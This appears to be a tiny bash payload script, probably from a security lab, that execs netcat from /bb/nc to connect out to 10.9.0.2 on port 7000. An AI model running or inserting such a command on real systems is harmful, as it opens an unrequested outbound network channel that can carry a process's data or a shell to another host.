#!/usr/bin/bash
exec /bb/nc 10.9.0.2 7000
